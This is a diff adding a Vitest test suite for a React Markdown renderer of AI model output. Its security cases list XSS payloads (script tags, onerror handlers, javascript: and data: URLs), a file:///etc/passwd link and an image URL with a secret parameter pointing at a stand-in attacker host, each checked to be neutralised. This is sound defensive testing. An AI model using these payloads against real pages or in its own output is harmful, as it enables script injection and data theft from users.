@@ -1,0 +1,125 @@
+import { cleanup, render, screen } from '@testing-library/react'
+import { afterEach, describe, expect, test, vi } from 'vitest'
+import { Markdown } from '#app/_content/markdown.tsx'
+import { MarkdownView } from '#app/_content/markdown-view.tsx'
+
+afterEach(cleanup)
+
+const show = (text: string, streaming = false) => render(<MarkdownView text={text} streaming={streaming} />).container
+
+describe('what a model writes', () => {
+  test('is Markdown', () => {
+    const page = show('# Title\n\nSome **bold** and `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done')
+    expect(page.querySelector('h1')?.textContent).toBe('Title')
+    expect(page.querySelector('strong')?.textContent).toBe('bold')
+    expect(page.querySelector('p code')?.textContent).toBe('code')
+    expect(screen.getByRole('table').querySelectorAll('td')).toHaveLength(2)
+    expect(page.querySelector('input[type=checkbox]')).not.toBeNull()
+  })
+
+  test('shows code with its language and a way to copy it', () => {
+    const page = show('```ts\nconst a = 1 < 2\n```')
+    expect(page.querySelector('figcaption')?.textContent).toContain('ts')
+    expect(page.querySelector('pre code')?.textContent).toBe('const a = 1 < 2')
+    expect(screen.getByRole('button', { name: 'Copy code' })).toBeTruthy()
+  })
+
+  test('has its colours up to where colouring it for each piece would cost too much, and all of them at its end', async () => {
+    const line = 'const a = 1\n'
+    const text = `\`\`\`ts\n${line.repeat(1_000)}`
+    const { container, rerender } = render(<MarkdownView text={text} streaming />)
+    const colours = () => container.querySelectorAll('code .hljs-keyword').length
+    await vi.waitFor(() => expect(colours()).toBeGreaterThan(100), { timeout: 10_000 })
+    expect(colours()).toBeLessThan(700)
+    expect(container.querySelector('pre code')?.textContent).toBe(line.repeat(1_000).trimEnd())
+    rerender(<MarkdownView text={`${text}\`\`\`\n\nThat was it.`} streaming />)
+    await vi.waitFor(() => expect(colours()).toBe(1_000), { timeout: 10_000 })
+  })
+
+  test('is readable while a code fence and emphasis are still open', () => {
+    expect(show('```py\nprint(1', true).querySelector('pre code')?.textContent).toBe('print(1')
+    expect(show('so **bold', true).querySelector('strong')?.textContent).toBe('bold')
+  })
+
+  test.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<svg onload=alert(1)></svg>',
+    '<style>*{display:none}</style>',
+    '<a href="javascript:alert(1)">x</a>',
+    'text <b onclick="alert(1)">inline</b>',
+    '<form action="https://evil.example"><input name=a><button>go</button></form>',
+  ])('is shown as text where it is HTML: %s', (html) => {
+    const page = show(html)
+    expect(page.querySelector('script, img, iframe, svg[onload], style, a, b, form, [onclick], [onerror]')).toBeNull()
+    expect(page.textContent).toContain(html.slice(0, 5))
+  })
+
+  test('keeps the line breaks that models write into table cells', () => {
+    const page = show('| a |\n|---|\n| one<br>two<BR/>three |')
+    expect(page.querySelectorAll('td br')).toHaveLength(2)
+    expect(page.querySelector('td')?.textContent).toBe('one\ntwo\nthree')
+  })
+
+  test.each([
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](data:text/html,<script>alert(1)</script>)',
+    '[x](vbscript:msgbox(1))',
+    '<javascript:alert(1)>',
+    '[x](file:///etc/passwd)',
+    '[x](/api/sessions)',
+  ])('links to the web only: %s', (markdown) => {
+    expect(show(markdown).querySelector('a[href]')).toBeNull()
+  })
+
+  test('opens links elsewhere, without telling where they were', () => {
+    show('[docs](https://example.org/a)')
+    const link = screen.getByRole('link', { name: 'docs' })
+    expect(link.getAttribute('href')).toBe('https://example.org/a')
+    expect(link.getAttribute('target')).toBe('_blank')
+    expect(link.getAttribute('rel')).toContain('noopener')
+  })
+
+  test('loads no picture from elsewhere, and says which one it was', () => {
+    const page = show('![a cat](https://evil.example/cat.png?secret=1)')
+    expect(page.querySelector('img')).toBeNull()
+    expect(page.textContent).toContain('Picture not loaded: a cat')
+    expect(screen.getByRole('link').getAttribute('href')).toBe('https://evil.example/cat.png?secret=1')
+  })
+
+  test.each([
+    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
+    '![x](javascript:alert(1))',
+    '![x][ref]\n\n[ref]: //evil.example/x',
+  ])('loads no picture by any other way: %s', (markdown) => {
+    expect(show(markdown).querySelector('img, a[href]')).toBeNull()
+  })
+})
+
+test('a list as deep as anyone would write it is one', () => {
+  expect(show(`${'- '.repeat(20)}end`).querySelectorAll('li')).toHaveLength(20)
+})
+
+describe('a text that the renderer cannot take', () => {
+  test.each([
+    ['a list as no renderer can take', '- ', 5_000],
+    ['a quotation as no renderer can take', '>', 5_000],
+    ['a list as nobody can read', '- ', 60],
+  ])('nested like %s stays as it stands beside what is well', async (_name, mark, depth) => {
+    const complaints = vi.spyOn(console, 'error').mockImplementation(() => undefined)
+    const bottomless = `${mark.repeat(depth)}end`
+    const page = render(
+      <>
+        <p>the rest of the page</p>
+        <Markdown text={bottomless} />
+        <Markdown text="**fine**" />
+      </>,
+    ).container
+    await vi.waitFor(() => expect(page.querySelector('strong')?.textContent).toBe('fine'), { timeout: 10_000 })
+    expect(screen.getByText('the rest of the page')).toBeTruthy()
+    expect(page.textContent?.includes(bottomless)).toBe(true)
+    expect(complaints).toHaveBeenCalled()
+  })
+})
